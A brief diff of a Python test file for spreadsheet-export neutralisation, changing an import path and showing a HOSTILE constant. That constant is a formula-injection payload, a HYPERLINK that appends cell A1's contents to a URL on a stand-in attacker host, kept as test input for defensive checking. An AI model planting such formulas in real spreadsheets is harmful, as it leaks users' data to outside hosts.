@@ -13,7 +13,7 @@ from typing import Any
 
 import pytest
 
-from server.spreadsheet import cell, neutralise
+from server.features.spreadsheet import cell, neutralise
 from tests.conftest import Api
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
